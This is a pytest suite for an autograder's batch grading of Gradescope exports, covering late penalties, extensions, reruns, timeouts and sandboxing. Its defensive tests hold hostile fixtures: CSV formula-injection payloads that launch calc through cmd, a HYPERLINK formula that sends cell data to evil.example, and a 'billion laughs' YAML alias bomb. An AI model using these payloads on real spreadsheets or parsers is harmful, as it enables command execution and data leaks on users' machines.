"""grade-batch: a Gradescope "Export Submissions" zip (folders, Ruby-style metadata,
late days per submission), one CSV row per student, reruns that grade only what
changed, gradings killed whole past their timeout, Dask, and (as root) the sandbox pool.

Fast tests call the batch's functions in this process, with a fake grading where the
real one does not matter; the slow ones grade for real in subprocesses."""

import concurrent.futures
import csv
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pytest
import yaml

from autograder import batch, config, rubric, runner
from autograder.sandbox import jail

from conftest import PATH, ROOT, orphans, pool_uids, run_cli

EXPORT = ROOT / "tests" / "fixtures" / "gradescope_export" / "submission_metadata.yml"
EXEMPLAR = ROOT / "solutions" / "song_contest" / "responses.md"
SONG = config.load("song_contest")
MANUAL = rubric.manual_items(SONG)  # the manual columns of `rubric --merge`'s CSV


def read_rows(path: Path) -> list[dict]:
    with open(path, newline="") as f:
        return list(csv.DictReader(f))


def export_folder(folder: Path, sids=("submission_2610001", "submission_2610002",
                                      "submission_2610003")) -> Path:
    """The export fixture as an unzipped folder: the exemplar essay for each submission."""
    metadata = yaml.safe_load(EXPORT.read_text())
    for sid in sids:
        (folder / sid).mkdir(parents=True)
        shutil.copy(EXEMPLAR, folder / sid / "responses.md")
    (folder / "submission_metadata.yml").write_text(yaml.safe_dump({s: metadata[s] for s in sids}))
    return folder


# -- real gradings of the essay (it runs no student code: seconds each) --------------------
@pytest.mark.slow
def test_grade_batch_on_an_export_zip(tmp_path):
    export = tmp_path / "export.zip"
    with zipfile.ZipFile(export, "w") as archive:
        archive.write(EXPORT, "assignment_export/submission_metadata.yml")
        archive.write(EXEMPLAR, "assignment_export/submission_2610001/responses.md")
        archive.write(EXEMPLAR, "assignment_export/submission_2610002/nested/Responses (1).md")
        archive.writestr("assignment_export/submission_2610003/notes.pdf", b"%PDF-1.4")
    out = tmp_path / "graded"
    run_cli("grade-batch", "song_contest", str(export), "--out", str(out), "--jobs", "2")
    rows = {row["student"]: row for row in read_rows(out / "grades.csv")}
    assert list(rows) == ["Student One", "Student Two", "Pair One", "Pair Two"]
    on_time, two_days, pair_one, pair_two = rows.values()
    assert (on_time["late_days"], float(on_time["score"])) == ("0", 7.0)
    assert (two_days["late_days"], float(two_days["score"])) == ("2", 1.0)  # 33.5 h late
    for member in (pair_one, pair_two):  # 31 min late, a PDF: each member gets the row
        assert member["submission"] == "submission_2610003"
        assert (member["late_days"], member["late_penalty"], float(member["score"])) == \
            ("1", "3.0", -3.0)
    assert pair_two["email"] == "pair2@example.edu"
    report = (out / "report.html").read_text()
    assert "Student Two" in report and "<a href='results/submission_2610002.html'>" in report
    assert "Sudam" in (out / "results" / "submission_2610002.html").read_text()


def test_grade_batch_reports_a_bad_source(tmp_path):
    done = run_cli("grade-batch", "song_contest", str(tmp_path / "missing.zip"),
                   "--out", str(tmp_path / "out"), check=False)
    assert done.returncode == 2 and "neither a folder nor a zip file" in done.stderr


@pytest.mark.slow
def test_grade_batch_keeps_going_past_a_broken_submission(tmp_path):
    subs = tmp_path / "subs"
    (subs / "ok").mkdir(parents=True)
    shutil.copy(EXEMPLAR, subs / "ok" / "responses.md")
    (subs / "binary").mkdir()
    (subs / "binary" / "responses.md").write_bytes(bytes(range(256)) * 100)
    run_cli("grade-batch", "song_contest", str(subs), "--out", str(tmp_path / "out"))
    rows = {row["submission"]: row for row in read_rows(tmp_path / "out" / "grades.csv")}
    assert float(rows["ok"]["score"]) == 7
    assert rows["binary"]["error"] == "" and float(rows["binary"]["score"]) == 0
    assert rows["ok"]["student"] == ""  # no metadata: one row, no name


def test_a_grading_past_its_timeout_is_an_error_row(tmp_path):
    settings = batch.Settings("song_contest", 0.2, None, "v")
    started = time.monotonic()
    outcome = batch.grade_folder(settings, ROOT / "solutions" / "song_contest", None,
                                 tmp_path / "results.json")
    assert outcome == ("grading took longer than 0.2 s; it was stopped, with every process "
                       "it started")
    assert time.monotonic() - started < 10


# -- one row per student -------------------------------------------------------------------
DOCUMENT = {"score": 97.0, "tests": [
    {"name": "a", "score": 60.0, "max_score": 60.0, "tags": ["losses.mse_loss"]},
    {"name": "b", "score": 40.0, "max_score": 40.0, "tags": ["optimizers.Adam"]},
    {"name": "Late penalty", "score": -3.0, "max_score": 0.0, "tags": ["late_policy"]}],
    "extra_data": {"late": {"days": 1, "penalty": 3.0}}}
PAIR = {"users": [{"name": "Pat", "email": "pat@x.edu"}, {"name": "Sam", "email": "sam@x.edu"}]}


def test_each_member_of_a_group_gets_a_row_with_the_late_penalty_applied():
    rows = batch.grade_rows("s1", DOCUMENT, PAIR)
    assert [(r["student"], r["email"]) for r in rows] == [("Pat", "pat@x.edu"), ("Sam", "sam@x.edu")]
    for row in rows:
        assert (row["submission"], row["score"], row["late_days"], row["late_penalty"],
                row["error"]) == ("s1", 97.0, 1, 3.0, "")
        assert (row["losses.mse_loss"], row["optimizers.Adam"], row["late_policy"]) == (60, 40, -3)


def test_unknown_submitters_get_one_row_and_a_failure_is_an_error_row():
    (row,) = batch.grade_rows("s2", DOCUMENT, None)
    assert (row["student"], row["email"], row["score"]) == ("", "", 97.0)
    rows = batch.grade_rows("s3", "grading took longer than 900 s", PAIR)
    assert [(r["student"], r["score"], r["error"]) for r in rows] == [
        ("Pat", "", "grading took longer than 900 s"), ("Sam", "", "grading took longer than 900 s")]


# -- extensions -----------------------------------------------------------------------------
def grade_in_process(settings, folder, metadata_path, target):
    """grade_folder without a process of its own: the essay runs no student code."""
    metadata = json.loads(metadata_path.read_text()) if metadata_path else None
    document = runner.grade(SONG, folder, metadata)
    target.write_text(json.dumps(document))
    return document


def test_extensions_move_a_students_deadline_in_grades_csv_and_the_merge(tmp_path, monkeypatch):
    """Student Two (33.5 h late) has a new due date, by email; the pair (31 min late) has a
    day more, by the sid of one member: both are on time. The row says which deadline
    applied, and rubric --merge charges what results.json charged."""
    monkeypatch.setattr(batch, "grade_folder", grade_in_process)
    source, out = export_folder(tmp_path / "export"), tmp_path / "out"
    granted = tmp_path / "extensions.csv"
    granted.write_text("name,email,sid,due,days\n"
                       "Two,STUDENT2@example.edu,,2024-09-22 23:59 America/New_York,\n"
                       "Pair,,1004,,1\n")
    rows = {row["student"]: row for row in batch.grade_all(SONG, source, out, extended=granted)}
    assert {name: (row["late_days"], row["deadline"], row["deadline_source"])
            for name, row in rows.items()} == {
        "Student One": (0, "2024-09-20T23:59:00-04:00", "assignment.yaml"),
        "Student Two": (0, "2024-09-22T23:59:00-04:00", "extensions file"),
        "Pair One": (0, "2024-09-21T23:59:00-04:00", "extensions file"),
        "Pair Two": (0, "2024-09-21T23:59:00-04:00", "extensions file")}
    written = {row["student"]: row for row in read_rows(out / "grades.csv")}
    assert written["Student Two"]["deadline_source"] == "extensions file"
    late_row = json.loads((out / "results" / "submission_2610002.json").read_text())["tests"][-1]
    assert "after your extended deadline" not in late_row["output"]  # on time: says so
    assert "your extended deadline: 2024-09-22 23:59 EDT" in late_row["output"]
    manual = tmp_path / "manual.csv"
    with open(manual, "w", newline="") as f:
        writer = csv.DictWriter(f, ["submission", *MANUAL])
        writer.writeheader()
        for sid in ("submission_2610001", "submission_2610002", "submission_2610003"):
            writer.writerow({"submission": sid, **dict.fromkeys(MANUAL, 0)})
    assert rubric.merge(SONG, manual, out, tmp_path / "final.csv") == []
    assert {r["submission"]: r["late_penalty"] for r in read_rows(tmp_path / "final.csv")} == {
        "submission_2610001": "0.0", "submission_2610002": "0.0", "submission_2610003": "0.0"}


def test_gradescopes_own_due_dates_in_the_export_count_and_win_over_the_file(tmp_path,
                                                                             monkeypatch):
    monkeypatch.setattr(batch, "grade_folder", grade_in_process)
    source = export_folder(tmp_path / "export", sids=("submission_2610002",))
    index = yaml.safe_load((source / "submission_metadata.yml").read_text())
    index["submission_2610002"][":submitters"][0][":assignment"] = {
        ":due_date": "2024-09-21 23:59:00.000000000 -04:00"}  # a day more, on Gradescope
    (source / "submission_metadata.yml").write_text(yaml.safe_dump(index))
    granted = tmp_path / "extensions.csv"
    granted.write_text("email,days\nstudent2@example.edu,3\n")
    (row,) = batch.grade_all(SONG, source, tmp_path / "out", extended=granted)
    assert (row["late_days"], row["deadline_source"]) == (1, "extension")
    late = json.loads((tmp_path / "out" / "results" / "submission_2610002.json").read_text())
    assert "extensions file's deadline (2024-09-23 23:59 EDT) differs from Gradescope's " \
           "extension (2024-09-21 23:59 EDT)" in late["extra_data"]["late"]["disagreement"]
    # the assignment's due date on Gradescope, where the export has it, is the base of days
    index["submission_2610002"][":submitters"][0].pop(":assignment")
    index["submission_2610002"][":assignment"] = {":due_date": "2024-09-19 23:59:00 -04:00"}
    (source / "submission_metadata.yml").write_text(yaml.safe_dump(index))
    granted.write_text("email,days\nstudent2@example.edu,2\n")
    (row,) = batch.grade_all(SONG, source, tmp_path / "out", extended=granted)
    assert (row["late_days"], row["deadline"], row["deadline_source"]) == (
        1, "2024-09-21T23:59:00-04:00", "extensions file")


@pytest.mark.parametrize(("text", "message"), [
    ("name,due\nAnn,2024-09-22 23:59 America/New_York\n",
     "extensions.csv: line 1: the columns are 'email' or 'sid', and 'due' or 'days' "
     "(found: name, due)"),
    ("email,due\na@x.edu,2024-09-22 23:59 America/New_York\nb@x.edu,2024-09-22 23:59\n",
     "extensions.csv: line 3: due: '2024-09-22 23:59' is neither 'YYYY-MM-DD HH:MM ZONE' (e.g. "
     "'2026-03-02 23:59 America/New_York') nor ISO 8601 with a UTC offset"),
    ("email,due\na@x.edu,2024-09-22 23:59 America/New_Yrok\n",
     "extensions.csv: line 2: due: unknown time zone 'America/New_Yrok'"),
    ("sid,days\n1001,2\n1002,two\n",
     "extensions.csv: line 3: days: 'two' is not a number of days from 0 to 366"),
    ("email,due,days\na@x.edu,2024-09-22T23:59:00-04:00,2\n",
     "extensions.csv: line 2: give 'due' or 'days', not both"),
    ("email,days\nA@x.edu,2\n\na@X.edu,3\n",
     "extensions.csv: line 4: a second row for email 'a@X.edu' (the first is line 2)"),
])
def test_a_bad_extensions_file_is_one_line_naming_it_and_the_line(tmp_path, text, message):
    source = export_folder(tmp_path / "export", sids=("submission_2610001",))
    (tmp_path / "extensions.csv").write_text(text)
    done = run_cli("grade-batch", "song_contest", str(source), "--out", str(tmp_path / "out"),
                   "--extensions", str(tmp_path / "extensions.csv"), check=False)
    assert (done.returncode, done.stdout, done.stderr) == (2, "", f"autograder: error: {message}\n")
    assert not (tmp_path / "out" / "results" / "submission_2610001.json").exists()


def test_an_extension_for_no_submitter_is_a_warning(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(batch, "grade_folder", grade_in_process)
    source = export_folder(tmp_path / "export", sids=("submission_2610001",))
    granted = tmp_path / "extensions.csv"
    granted.write_text("email,days\nnobody@x.edu,2\n")
    batch.grade_all(SONG, source, tmp_path / "out", extended=granted)
    assert "warning: extensions.csv: line 2: no submission by email 'nobody@x.edu'" in \
        capsys.readouterr().err


# -- what a submission says reaches the instructor's spreadsheet and YAML parser --------------
FOLDER = "=1+1+cmd|' -c calc'!A0"  # a submission's folder name (no slash in it)
LINK = '=HYPERLINK("http://evil.example/?"&A1,"open me")'
SUBMITTERS = [{":name": LINK, ":email": "@SUM(1+1)*cmd|' /C calc'!A0"},
              {":name": "-2+3+cmd|' /C calc'!A0", ":email": "pair@x.edu"}]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formulas(path: Path) -> list[str]:
    """The cells of a CSV file that a spreadsheet would read as a formula (a number such as
    -5.0 is none)."""
    with open(path, newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    return [cell for cell in cells if cell.startswith(FORMULA_START)
            and not re.fullmatch(r"[-+]?[0-9.]+", cell)]


def test_no_cell_of_grades_csv_or_of_the_merge_is_a_formula(tmp_path, monkeypatch):
    """Folder names, submitters, what a results.json holds and a failed grading's last line
    come from outside: a cell that starts like a formula starts with a quote instead; the
    toolkit's numbers (a score of -5) stay numbers."""
    source, out = tmp_path / "export", tmp_path / "out"
    for sid in (FOLDER, "submission_2"):
        (source / sid).mkdir(parents=True)
        (source / sid / "responses.md").write_text("An answer.\n")
    (source / "submission_metadata.yml").write_text(yaml.safe_dump({
        FOLDER: {":submitters": SUBMITTERS}, "submission_2": {":submitters": SUBMITTERS[1:]}}))

    def grade(settings, folder, metadata_path, target):
        if folder.name == "submission_2":
            return "=2+2 said the grading's last line"
        document = {"score": -5.0, "tests": [
            {"name": "q1", "score": -5.0, "max_score": 10.0, "status": "failed",
             "tags": ["-1+1"], "output": "=3+3"}],
            "extra_data": {"assignment": "song_contest"}}
        target.write_text(json.dumps(document))
        return document

    monkeypatch.setattr(batch, "grade_folder", grade)
    batch.grade_all(SONG, source, out)
    assert formulas(out / "grades.csv") == []
    rows = read_rows(out / "grades.csv")
    assert [(r["submission"], r["student"], r["email"], r["score"]) for r in rows] == [
        (f"'{FOLDER}", f"'{LINK}", "'@SUM(1+1)*cmd|' /C calc'!A0", "-5.0"),
        (f"'{FOLDER}", "'-2+3+cmd|' /C calc'!A0", "pair@x.edu", "-5.0"),
        ("submission_2", "'-2+3+cmd|' /C calc'!A0", "pair@x.edu", "")]
    assert rows[0]["'-1+1"] == "-5.0" and rows[2]["error"] == "'=2+2 said the grading's last line"

    manual = tmp_path / "manual.csv"
    with open(manual, "w", newline="") as f:
        writer = csv.DictWriter(f, ["submission", *MANUAL])
        writer.writeheader()
        writer.writerow({"submission": FOLDER, **dict.fromkeys(MANUAL, 0)})
    final = tmp_path / "final_grades.csv"
    assert rubric.merge(SONG, manual, out, final) == []
    assert formulas(final) == []
    (row,) = read_rows(final)
    assert (row["submission"], row["students"], row["emails"], row["auto"]) == (
        f"'{FOLDER}", f"'{LINK}; -2+3+cmd|' /C calc'!A0",
        "'@SUM(1+1)*cmd|' /C calc'!A0; pair@x.edu", "-5.0")


def test_an_export_index_of_nested_aliases_is_refused_at_once(tmp_path):
    """Nine levels of ten aliases ("billion laughs") stand for 10**9 names once the index is
    walked: the index is refused in one line, before anything is graded."""
    source = tmp_path / "export"
    (source / "submission_1").mkdir(parents=True)
    laughs = ["l0: &l0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    laughs += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * 10)}]" for i in range(1, 9)]
    (source / "submission_metadata.yml").write_text(
        "\n".join(laughs) + "\nsubmission_1: {':submitters': *l8}\n")
    start = time.monotonic()
    done = run_cli("grade-batch", "song_contest", str(source), "--out", str(tmp_path / "out"),
                   check=False, timeout=60)
    assert time.monotonic() - start < 30
    assert (done.returncode, done.stderr) == (2, "autograder: error: submission_metadata.yml: its "
                                                 "aliases (*name) expand it by more than 100000 "
                                                 "entries\n")
    assert not (tmp_path / "out" / "grades.csv").exists()


def test_an_export_index_that_is_no_mapping_of_folders_is_one_error(tmp_path):
    (tmp_path / "submission_1").mkdir()
    for text in ("- a list\n", "submission_1: just a name\n"):
        (tmp_path / "submission_metadata.yml").write_text(text)
        with pytest.raises(config.ConfigError, match="^submission_metadata.yml: not Gradescope's "
                                                     "export index"):
            batch.discover(tmp_path, tmp_path / "work")


# -- resumable -------------------------------------------------------------------------------
def test_the_key_changes_with_the_files_the_metadata_and_the_grader(tmp_path):
    folder = tmp_path / "sub"
    (folder / "nested").mkdir(parents=True)
    (folder / "nested" / "losses.py").write_text("x = 1\n")
    key = batch.submission_key(folder, PAIR, "grader-1")
    assert batch.submission_key(folder, json.loads(json.dumps(PAIR)), "grader-1") == key
    assert batch.submission_key(folder, PAIR, "grader-2") != key
    assert batch.submission_key(folder, {"users": PAIR["users"][:1]}, "grader-1") != key
    assert batch.submission_key(folder, None, "grader-1") != key
    (folder / "nested" / "losses.py").write_text("x = 2\n")
    assert batch.submission_key(folder, PAIR, "grader-1") != key
    (folder / "nested" / "losses.py").write_text("x = 1\n")
    (folder / "nested" / "losses.py").rename(folder / "losses.py")
    assert batch.submission_key(folder, PAIR, "grader-1") != key  # a file moved


def test_the_grader_version_covers_the_tests_and_the_libraries(monkeypatch):
    version = batch.grader_version("song_contest")
    assert re.fullmatch(r"[0-9a-f]{64}", version) and version != batch.grader_version("optimization")
    batch.grader_version.cache_clear()
    monkeypatch.setattr(batch, "DECIDING_LIBRARIES", ("numpy", "pytest"))
    assert batch.grader_version("song_contest") != version
    batch.grader_version.cache_clear()


def fake_grading(calls: list):
    """A grading that takes no time: writes a document whose score is the file's length."""
    def grade(settings, folder, metadata_path, target):
        calls.append(folder.name)
        metadata = json.loads(metadata_path.read_text()) if metadata_path else None
        size = sum(len(p.read_bytes()) for p in folder.rglob("*") if p.is_file())
        document = {"score": float(size), "tests": [
            {"name": "q1", "score": float(size), "max_score": 1e6, "status": "passed",
             "tags": ["song_contest.q1"], "output": ""}],
            "extra_data": {"assignment": "song_contest", "seen_metadata": metadata}}
        target.write_text(json.dumps(document))
        return document
    return grade


def test_a_rerun_grades_only_what_changed(tmp_path, monkeypatch):
    calls = []
    monkeypatch.setattr(batch, "grade_folder", fake_grading(calls))
    source, out = export_folder(tmp_path / "export"), tmp_path / "out"
    rows = batch.grade_all(SONG, source, out, jobs=2)
    assert sorted(calls) == ["submission_2610001", "submission_2610002", "submission_2610003"]
    assert len(rows) == 4 and (out / "report.html").is_file()
    saved = json.loads((out / "results" / "submission_2610003.json").read_text())
    assert saved["extra_data"]["seen_metadata"]["users"][1]["name"] == "Pair Two"
    calls.clear()
    assert batch.grade_all(SONG, source, out, jobs=2) == rows
    assert calls == []
    with open(source / "submission_2610002" / "responses.md", "a") as f:
        f.write("\nOne more sentence.\n")
    metadata = yaml.safe_load((source / "submission_metadata.yml").read_text())
    metadata["submission_2610003"][":created_at"] = "2024-09-20 21:00:00 -04:00"  # an extension
    (source / "submission_metadata.yml").write_text(yaml.safe_dump(metadata))
    batch.grade_all(SONG, source, out, jobs=2)
    assert sorted(calls) == ["submission_2610002", "submission_2610003"]


def test_a_failed_regrading_leaves_no_results_behind(tmp_path, monkeypatch):
    monkeypatch.setattr(batch, "grade_folder", fake_grading([]))
    source, out = export_folder(tmp_path / "export", ["submission_2610001"]), tmp_path / "out"
    batch.grade_all(SONG, source, out)
    (source / "submission_2610001" / "responses.md").write_text("changed")
    monkeypatch.setattr(batch, "grade_folder", lambda *args: "the grader crashed")
    (row,) = batch.grade_all(SONG, source, out)
    assert row["error"] == "the grader crashed"
    assert sorted(p.name for p in (out / "results").iterdir()) == [
        "submission_2610001.metadata.json"]  # rubric --merge finds no stale results


def test_a_grading_that_raises_is_its_rows_error():
    with concurrent.futures.ThreadPoolExecutor() as pool:
        futures = {pool.submit(lambda: 1 / 0): "job"}
        assert list(batch.outcomes(futures, concurrent.futures.as_completed)) == [
            ("job", "the grading could not run: ZeroDivisionError: division by zero")]


# -- a grading that hangs, crashes or runs out of memory -------------------------------------
LEAVES_PROCESSES = textwrap.dedent("""
    import os, sys, time
    pids = []
    for detach in (False, True):
        pid = os.fork()
        if pid == 0:
            if detach:
                os.setsid()  # leaves the process group
            time.sleep(600)
            os._exit(0)
        pids.append(pid)
    open(sys.argv[1], "w").write(" ".join(map(str, pids)))
    time.sleep(float(sys.argv[2]))
    print("done here", file=sys.stderr)
""")


def alive(pids: list[int]) -> list[int]:
    live = {pid for pid, _, _ in jail.processes()}
    return [pid for pid in pids if pid in live]


@pytest.mark.parametrize("runs_for", [600, 0])
def test_a_grading_is_killed_with_every_process_it_started(tmp_path, runs_for):
    """Past the timeout, every process below the grading goes, also those that left its
    process group. When it ends by itself, what stayed in its group goes (what left the
    group is the grader's to end: its jail kills every process of its pool users)."""
    pids_file = tmp_path / "pids"
    started = time.monotonic()
    code, stderr = batch.run_killable([sys.executable, "-c", LEAVES_PROCESSES, str(pids_file),
                                       str(runs_for)], timeout=3)
    assert time.monotonic() - started < 30
    pids = [int(p) for p in pids_file.read_text().split()]
    try:
        assert (code, stderr) == ((None, "") if runs_for else (0, "done here\n"))
        assert len(pids) == 2 and alive(pids if runs_for else pids[:1]) == []
        assert not batch.RUNNING.processes
    finally:
        for pid in alive(pids):
            os.kill(pid, signal.SIGKILL)


def test_a_grading_killed_by_a_signal_says_so(monkeypatch, tmp_path):
    settings = batch.Settings("optimization", 900, None, "v")
    monkeypatch.setattr(batch, "run_killable", lambda command, timeout: (-signal.SIGKILL, ""))
    assert batch.grade_folder(settings, tmp_path, None, tmp_path / "r.json") == \
        "the grading process was killed by SIGKILL (out of memory?)"
    monkeypatch.setattr(batch, "run_killable",
                        lambda command, timeout: (2, "warning\nautograder: error: bad\n\n"))
    assert batch.grade_folder(settings, tmp_path, None, tmp_path / "r.json") == \
        "autograder: error: bad"


def test_an_interrupted_batch_kills_the_gradings_still_running(tmp_path):
    pids_file = tmp_path / "pids"
    command = [sys.executable, "-c", LEAVES_PROCESSES, str(pids_file), "600"]
    with concurrent.futures.ThreadPoolExecutor() as pool:
        future = pool.submit(batch.run_killable, command, 600)
        while not pids_file.is_file() or not pids_file.read_text():
            time.sleep(0.05)
        batch.RUNNING.kill_all()  # what grade_locally does when the batch stops
        assert future.result(timeout=30)[0] == -signal.SIGKILL
    assert alive([int(p) for p in pids_file.read_text().split()]) == []


# -- where and how many ----------------------------------------------------------------------
def test_one_grading_per_core_at_most_half_the_sandbox_pool(monkeypatch):
    cores = len(os.sched_getaffinity(0))
    assert batch.parallel_gradings(None, None) == cores
    assert batch.parallel_gradings(5, None) == 5
    monkeypatch.setattr(jail, "pool_members", lambda pool: ["user"] * 5)
    assert batch.parallel_gradings(8, "pool") == 2  # a grading leases two users
    assert batch.parallel_gradings(1, "pool") == 1


def test_an_unknown_executor_is_refused(tmp_path):
    with pytest.raises(config.ConfigError, match="--executor: 'ray://x:1' is not local"):
        batch.grade_all(SONG, tmp_path, tmp_path / "out", executor="ray://x:1")


def test_a_dask_scheduler_that_does_not_answer_is_one_error(tmp_path, monkeypatch):
    monkeypatch.setattr(batch, "DASK_CONNECT_TIMEOUT", 1)
    source = export_folder(tmp_path / "export", ["submission_2610001"])
    with pytest.raises(config.ConfigError, match="^--executor: no Dask scheduler at "
                                                 "tcp://127.0.0.1:9: "):
        batch.grade_all(SONG, source, tmp_path / "out", executor="dask://127.0.0.1:9")


@pytest.mark.skipif(os.geteuid() != 0, reason="as root only: the sandbox pool")
def test_as_root_a_pool_that_cannot_run_stops_the_batch_before_grading(tmp_path, monkeypatch):
    temp = tmp_path / "tmp"  # the checks' temporary folder: they leave nothing in it
    temp.mkdir()
    monkeypatch.setenv("TMPDIR", str(temp))
    with pytest.raises(runner.GradingError, match=r"^as root, grade-batch runs student code as "
                       r"the users of the sandbox pool 'no-such-pool', and cannot: .*no-such-pool0"):
        batch.check_sandbox("no-such-pool")
    done = run_cli("grade-batch", "optimization", str(tmp_path), "--out", str(tmp_path / "out"),
                   "--sandbox-pool", "no-such-pool", check=False)
    assert done.returncode == 2 and done.stderr.count("\n") == 1, done.stderr
    assert not (tmp_path / "out").exists()
    assert list(temp.iterdir()) == []


@pytest.mark.skipif(os.geteuid() != 0, reason="as root only: the sandbox pool")
def test_as_root_an_unusable_default_pool_is_a_warning_not_a_stop(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(batch, "DEFAULT_POOL", "no-such-pool")
    (tmp_path / "empty").mkdir()
    with pytest.raises(config.ConfigError, match="no submission folders"):  # it went on
        batch.grade_all(config.load("optimization"), tmp_path / "empty", tmp_path / "out")
    warning = capsys.readouterr().err
    assert warning.startswith("warning: as root, grade-batch runs student code as the users of "
                              "the sandbox pool 'no-such-pool', and cannot: ")
    assert "grading with bubblewrap alone instead" in warning


# -- slow: Dask, and the sandbox pool as on Gradescope ---------------------------------------
@pytest.mark.slow
def test_grade_batch_on_a_local_dask_cluster(tmp_path, monkeypatch):
    def not_here(*args):
        raise AssertionError("graded in this process, not on the Dask cluster")

    monkeypatch.setattr(batch, "grade_locally", not_here)
    source = export_folder(tmp_path / "export", ["submission_2610001", "submission_2610002"])
    out = tmp_path / "out"
    rows = batch.grade_all(SONG, source, out, jobs=2, executor="dask-local")
    assert {row["submission"]: row["score"] for row in rows} == {
        "submission_2610001": 7.0, "submission_2610002": 1.0}
    assert (out / "results" / "submission_2610002.key").is_file()
    saved = json.loads((out / "results" / "submission_2610002.json").read_text())
    assert saved["extra_data"]["late"]["days"] == 2  # the metadata travelled with the files


SPY = ("def l1_loss(y_hat, y):\n    import os\n"
       "    raise ValueError(f'running as uid {os.getuid()}')\n")


def batch_as_root(root: Path, *args: str) -> subprocess.CompletedProcess:
    """grade-batch as root, run by the toolkit as setup.sh installs it in ``root`` (the
    session's ``gradescope_root``: a venv of the system python3, which the pool users can
    start, and the pool), as an instructor would run it."""
    return subprocess.run([str(root / "venv" / "bin" / "python"), "-m", "autograder.cli",
                           "grade-batch", "optimization", *args], cwd=root / "source",
                          env={"PATH": PATH, "AUTOGRADER_HOME": str(root / "source")},
                          capture_output=True, text=True, timeout=900, check=False)


@pytest.mark.slow
def test_as_root_grade_batch_runs_student_code_as_the_pool_users(gradescope_root, tmp_path):
    subs = tmp_path / "export"
    for sid in ("submission_1", "submission_2"):
        shutil.copytree(ROOT / "solutions" / "optimization", subs / sid)
    with open(subs / "submission_2" / "losses.py", "a") as f:
        f.write("\n\n" + SPY)
    users = [{":name": "Pat", ":email": "pat@x.edu"}, {":name": "Sam", ":email": "sam@x.edu"}]
    (subs / "submission_metadata.yml").write_text(yaml.safe_dump({
        "submission_1": {":submitters": users, ":created_at": "2024-10-12 10:00:00 -04:00"},
        "submission_2": {":submitters": [{":name": "Eve"}],
                         ":created_at": "2024-10-11 10:00:00 -04:00"}}))
    done = batch_as_root(gradescope_root, str(subs), "--out", str(tmp_path / "out"), "--jobs", "2")
    assert done.returncode == 0, done.stderr
    rows = read_rows(tmp_path / "out" / "grades.csv")
    assert [(r["student"], float(r["score"])) for r in rows] == [("Pat", 97.0), ("Sam", 97.0),
                                                                 ("Eve", 98.0)]
    spied = (tmp_path / "out" / "results" / "submission_2.json").read_text()
    uids = {int(uid) for uid in re.findall(r"running as uid (\d+)", spied)}
    assert uids and uids <= pool_uids(), uids
    reference = json.loads((tmp_path / "out" / "results" / "submission_1.json").read_text())
    public, hidden = [t["extra_data"]["curves"] for t in reference["tests"] if "curves" in t.get(
        "extra_data", {})]  # the training name's public row, then its hidden row
    assert set(public) == {"validation loss"} and set(public["validation loss"]) == {"student"}
    assert set(hidden) == {"training loss", "validation loss"}
    assert hidden["validation loss"]["student"] == hidden["validation loss"]["reference"]


@pytest.mark.slow
def test_as_root_a_hanging_grading_is_killed_and_the_batch_says_so(gradescope_root, tmp_path):
    subs = tmp_path / "subs"
    shutil.copytree(ROOT / "solutions" / "optimization", subs / "hangs")
    # The batch's timeout is wall time: a sleep hangs the grading as a loop does, without
    # burning 12 CPU seconds (test_hostile's loops meet the sandbox's own limits).
    with open(subs / "hangs" / "losses.py", "a") as f:
        f.write("\nimport time\ntime.sleep(3600)\n")
    done = batch_as_root(gradescope_root, str(subs), "--out", str(tmp_path / "out"), "--timeout", "12")
    assert done.returncode == 1
    assert done.stderr.strip().splitlines()[-1].endswith("1 of 1 submissions could not be graded "
                                                         "(the error column of grades.csv says "
                                                         "why): hangs")
    (row,) = read_rows(tmp_path / "out" / "grades.csv")
    assert row["error"].startswith("grading took longer than 12 s")
    uids = pool_uids()
    assert orphans(lambda owner, cmd: owner in uids) == []
